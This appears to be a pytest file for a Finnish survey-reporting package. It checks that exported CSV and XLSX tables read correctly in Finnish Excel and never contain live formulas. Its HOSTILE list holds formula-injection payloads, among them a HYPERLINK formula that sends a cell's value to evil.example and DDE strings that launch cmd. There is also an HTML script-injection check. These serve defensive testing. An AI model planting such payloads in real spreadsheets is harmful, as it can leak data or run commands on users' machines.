"""Table files beside a report: as Finnish Excel reads them, and never a live formula (issues 11, 14).

The fast tests write tables with :func:`write_table_files` / ``show_table``; the slow one
runs the real pulse and feedback notebooks (and the unit reports) on a survey whose unit
names, statement texts and comments start with ``=``, ``+``, ``-`` and ``@``, then scans every
CSV and XLSX written.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import hypothesis.strategies as st
import pandas as pd
import pytest
from conftest import write_csv
from hypothesis import given
from openpyxl import load_workbook

import kalliola_analysis as ka
from kalliola_analysis.reports import batch, display
from kalliola_analysis.reports.tablefiles import (
    FORMULA_TRIGGERS,
    neutralise_cell,
    parse_shown_number,
    write_table_files,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"Klikkaa")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def read_like_finnish_excel(path: Path) -> list[list[str]]:
    """Fields as Finnish Excel splits a double-clicked CSV: UTF-8 with BOM, ';' between fields."""
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "no BOM: Excel would read it as Windows-1252"
    return list(csv.reader(io.StringIO(raw[3:].decode("utf-8"), newline=""), delimiter=";"))


def assert_no_live_formula_in_csv(path: Path) -> None:
    text = path.read_bytes().decode("utf-8-sig")
    sep = ";" if path.name.endswith(".csv") and not path.name.endswith(".data.csv") else ","
    if sep == ";" and text.splitlines()[0].count(";") == 0:
        sep = ","  # an English shown table
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=sep):
        for cell in row:
            if cell.startswith(FORMULA_TRIGGERS):
                assert parse_shown_number(cell, "fi") or parse_shown_number(cell, "en"), (
                    path,
                    cell,
                )


def assert_no_live_formula_in_xlsx(path: Path) -> None:
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path, ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                    assert cell.data_type == "s" and cell.quotePrefix, (path, cell.coordinate)


# --- the three files -----------------------------------------------------------------------------


def test_shown_table_opens_right_in_finnish_excel(tmp_path):
    data = pd.DataFrame(
        {
            "question": ["meaningful_work", "fair_treatment"],
            "mean": [4.605634, 3.898551],
            "favourable": [0.80754, 0.6431],
            "change": [0.105634, -0.25],
            "n": [1234, 71],
        }
    )
    shown = pd.DataFrame(
        {
            "Väittämä": ["Pidän nykyistä työtäni merkityksellisenä", "Äänet kuuluvat"],
            "Keskiarvo": ["4,6", "3,9"],
            "Myönteisiä": ["80,8 %", "64,3 %"],
            "Muutos": ["+0,1", "-0,3"],
            "Vastauksia": ["1 234", "71"],
        }
    )
    csv_path, xlsx_path, data_path = write_table_files(
        data, tmp_path, "statements", shown=shown, lang="fi"
    )
    rows = read_like_finnish_excel(csv_path)
    assert rows[0] == ["Väittämä", "Keskiarvo", "Myönteisiä", "Muutos", "Vastauksia"]
    assert rows[1] == ["Pidän nykyistä työtäni merkityksellisenä", "4,6", "80,8 %", "+0,1", "1 234"]
    assert rows[2][3] == "-0,3"  # a negative number stays a number, not "'-0,3"
    back = pd.read_csv(csv_path, sep=";", decimal=",", encoding="utf-8-sig")
    assert back["Keskiarvo"].tolist() == [4.6, 3.9]
    # the tidy data: plain UTF-8, ',' and '.', full precision, snake_case
    assert not data_path.read_bytes().startswith(b"\xef\xbb\xbf")
    pd.testing.assert_frame_equal(pd.read_csv(data_path), data)
    # XLSX: real numbers in the shown rounding, labels in the report language
    wb = load_workbook(xlsx_path)
    ws = wb.worksheets[0]
    assert [c.value for c in ws[1]] == list(shown.columns)
    assert all(c.font.bold for c in ws[1]) and ws.freeze_panes == "A2"
    mean, share, change, n = (ws.cell(2, j) for j in (2, 3, 4, 5))
    assert (mean.value, mean.number_format) == (4.6, "0.0")
    assert (share.value, share.number_format) == (0.808, "0.0 %")
    assert (change.value, change.number_format) == (0.1, "+0.0;-0.0;0.0")
    assert ws.cell(3, 4).value == -0.3 and (n.value, n.number_format) == (1234, "#,##0")
    assert ws.column_dimensions["A"].width >= len("Pidän nykyistä työtäni merkityksellisenä")
    pd.testing.assert_frame_equal(pd.read_excel(xlsx_path, sheet_name="data"), data)


def test_english_shown_table_uses_comma_and_point(tmp_path):
    shown = pd.DataFrame({"Figure": ["Response rate", "eNPS"], "Value": ["81%", "1,234.5"]})
    data = pd.DataFrame({"figure": ["response_rate", "enps"], "value": [0.806818, 1234.5]})
    csv_path, xlsx_path, _ = write_table_files(data, tmp_path, "h", shown=shown, lang="en")
    text = csv_path.read_bytes().decode("utf-8-sig")
    assert text.splitlines() == ["Figure,Value", "Response rate,81%", 'eNPS,"1,234.5"']
    ws = load_workbook(xlsx_path).worksheets[0]
    assert ws.title == "table" and ws["B2"].value == 0.81 and ws["B3"].value == 1234.5


def test_missing_values_and_text_that_only_looks_numeric(tmp_path):
    shown = pd.DataFrame({"a": ["–", "10,9–32,6", "+8 %-yks.", "+0,4*"]})
    _, xlsx_path, _ = write_table_files(shown, tmp_path, "m", shown=shown, lang="fi")
    ws = load_workbook(xlsx_path).worksheets[0]
    assert [ws.cell(r, 1).value for r in range(2, 6)] == [None, "10,9–32,6", "+8 %-yks.", "+0,4*"]
    assert_no_live_formula_in_xlsx(xlsx_path)


# --- formula injection ---------------------------------------------------------------------------


def test_every_text_cell_is_neutralised_in_every_file(tmp_path, monkeypatch):
    monkeypatch.setattr(display, "_display", lambda obj: None)
    data = pd.DataFrame(
        {
            "unit": pd.Categorical(HOSTILE),
            "statement": HOSTILE[::-1],
            "mean": [-1.5, 2.0, -0.25, 4.0, 3.0, 1.0],
            "n": [-1, 2, 3, 4, 5, 6],
        }
    )
    data.columns = ["unit", "=statement", "mean", "n"]  # a header can be hostile too
    shown = data.astype(str)
    display.show_table(data, "hostile", formatted=shown.style, output_dir=tmp_path, lang="fi")
    files = sorted(tmp_path.iterdir())
    assert [p.name for p in files] == ["hostile.csv", "hostile.data.csv", "hostile.xlsx"]
    for path in files:
        if path.suffix == ".csv":
            assert_no_live_formula_in_csv(path)
        else:
            assert_no_live_formula_in_xlsx(path)
    tidy = pd.read_csv(tmp_path / "hostile.data.csv")
    assert tidy["unit"].tolist() == ["'" + h for h in HOSTILE]  # readable, with the quote
    assert tidy["mean"].tolist() == [-1.5, 2.0, -0.25, 4.0, 3.0, 1.0]  # numbers stay numbers
    ws = load_workbook(tmp_path / "hostile.xlsx")["data"]
    assert ws["A2"].value == HOSTILE[0] and ws["A2"].data_type == "s"
    assert ws["C2"].value == -1.5 and ws["C2"].data_type == "n"


def test_control_characters_do_not_break_the_xlsx(tmp_path):
    data = pd.DataFrame({"comment": ["a\x00b\x1bc", "=\x07x"]})
    _, xlsx_path, _ = write_table_files(data, tmp_path, "c")
    ws = load_workbook(xlsx_path)["data"]
    assert [ws["A2"].value, ws["A3"].value] == ["abc", "=x"]
    assert_no_live_formula_in_xlsx(xlsx_path)


@given(st.text(max_size=30))
def test_neutralised_text_never_starts_a_formula(text):
    out = neutralise_cell(text)
    if out.startswith(FORMULA_TRIGGERS):
        assert out == text and (parse_shown_number(text, "fi") or parse_shown_number(text, "en"))
    else:
        assert out in (text, "'" + text)


@given(st.floats(allow_nan=False, allow_infinity=False, min_value=-1e6, max_value=1e6))
def test_shown_numbers_read_back(x):
    for lang in ("fi", "en"):
        text = ka.format_number(x, 2, lang=lang, sign=True)
        value, fmt = parse_shown_number(text, lang)
        assert value == pytest.approx(x, abs=0.005 + 1e-9 * max(1.0, abs(x))) and fmt.count("0.00") >= 1


# --- a grouped, collapsible table ----------------------------------------------------------------


def test_group_by_shows_one_details_per_group_escaped(tmp_path, monkeypatch):
    shown: list = []
    monkeypatch.setattr(display, "_display", shown.append)
    table = pd.DataFrame(
        {
            "Teema": ["<b>Osallisuus</b>", "<b>Osallisuus</b>", "Talous"],
            "Toimenpide": ["<script>x</script>", "B", "C"],
            "Tila": ["Valmis", "Etenee", "Valmis"],
        }
    )
    styled = table.style.map(lambda v: "background-color: #1b7837", subset=["Tila"])
    display.show_table(
        table, "measures", formatted=styled, output_dir=tmp_path, group_by="Teema", lang="fi"
    )
    html = shown[0].data
    assert html.count("<details") == 2 and html.count("<summary>") == 2
    assert "<summary>&lt;b&gt;Osallisuus&lt;/b&gt; " in html and "<script>" not in html
    assert "&lt;script&gt;x&lt;/script&gt;" in html and "background-color: #1b7837" in html
    assert ">Teema</th>" not in html  # the group is the summary, not a column
    assert len(pd.read_csv(tmp_path / "measures.data.csv")) == 3  # the files hold every row
    with pytest.raises(ka.ParameterError, match="group_by must be a column"):
        display.show_table(table, "m", group_by="Ei ole")


def test_value_cells_are_marked_not_to_wrap():
    html = display.table_html(
        pd.DataFrame({"Väittämä": ["Pitkä teksti 2023"], "11/2023": ["1 234,5"], "p": ["0,003"]})
    )
    assert '<td class="ka-num">1 234,5</td>' in html and '<td class="ka-num">0,003</td>' in html
    assert '<th class="ka-num">11/2023</th>' in html
    assert "<td>Pitkä teksti 2023</td>" in html


# --- the real reports on hostile data (slow) -----------------------------------------------------


def hostile_survey(folder: Path, kind: str, languages: str, periods: int = 1) -> Path:
    """24 answers a period, units named like formulas; statements and comments too."""
    units = ['=HYPERLINK("http://evil.example","Tiimi")', "+Yksikkö", "-Ryhmä", "@Osasto"]
    rows = []
    for i in range(24 * periods):
        rows.append(
            {
                "response_id": f"r{i}",
                "period": "2023-11" if i < 24 else "2023-05",
                "unit": units[i % 2] if i < 24 else units[2 + i % 2],
                "q1": 1 + i % 5,
                "q2": 1 + (i * 3) % 5,
                "q3": 1 + (i * 7) % 5,
                "enps": i % 11,
                "comment": HOSTILE[i % 4] + f" {i}",
            }
        )
    folder.mkdir(parents=True)
    write_csv(pd.DataFrame(rows), folder / "responses.csv")
    from conftest import make_codebook

    codebook = make_codebook()
    codebook["text_fi"] = [
        "=1+1 Viihdyn",
        "+Saan tukea",
        "-Kiire",
        "@Suosittelisitko",
        "=Terveiset",
    ]
    codebook["text_en"] = ["=1+1 Enjoy", "+Support", "-Hurry", "@Recommend", "=Comments"]
    write_csv(codebook, folder / "codebook.csv")
    invited = pd.DataFrame(
        {"period": ["2023-11"] * 2 + ["2023-05"] * 2, "unit": units, "invited": [14] * 4}
    ).iloc[: 2 * periods]
    write_csv(invited, folder / "invitations.csv")
    (folder / "dataset.toml").write_text(
        f'kind = "{kind}"\ntitle_fi = "=Kysely"\ntitle_en = "=Survey"\nslug = "kysely"\n'
        f"languages = {languages}\n",
        encoding="utf-8",
    )
    return folder


@pytest.mark.slow
def test_reports_on_hostile_data_write_no_live_formula(tmp_path):
    data = tmp_path / "data"
    hostile_survey(data / "pulse", "pulse", '["fi", "en"]')
    # two periods: a feedback report does not declare compare_to; its default is left out
    hostile_survey(data / "feedback" / "kysely", "feedback", '["fi"]', periods=2)
    out = tmp_path / "reports"
    notes: list[str] = []
    results = batch.run_all(
        data,
        out=out,
        jobs=2,
        progress=False,
        timeout=300,
        kinds=["pulse", "feedback"],
        on_note=notes.append,
    )
    names = sorted(r.html.name for r in results if r.period == "2023-11")
    # two languages; one unit report per unit (12 answers each), readable unique slugs
    assert names == [
        "feedback-kysely.html",
        "pulse.en.html",
        "pulse.html",
        "pulse.unit-hyperlink-http-evil-example-tiimi.en.html",
        "pulse.unit-hyperlink-http-evil-example-tiimi.html",
        "pulse.unit-yksikko.en.html",
        "pulse.unit-yksikko.html",
    ]
    assert notes == []
    tables = sorted(p for r in results for p in r.tables)
    assert tables and {p.suffix for p in tables} == {".csv", ".xlsx"}
    for path in tables:
        if path.suffix == ".csv":
            assert_no_live_formula_in_csv(path)
        else:
            assert_no_live_formula_in_xlsx(path)
    # the hostile text is there, as text
    ws = load_workbook(out / "2023-11" / "pulse-tables" / "statements.xlsx").worksheets[0]
    texts = [c.value for c in ws["A"]]
    assert "=1+1 Viihdyn" in texts
    assert ws.cell(texts.index("=1+1 Viihdyn") + 1, 1).data_type == "s"
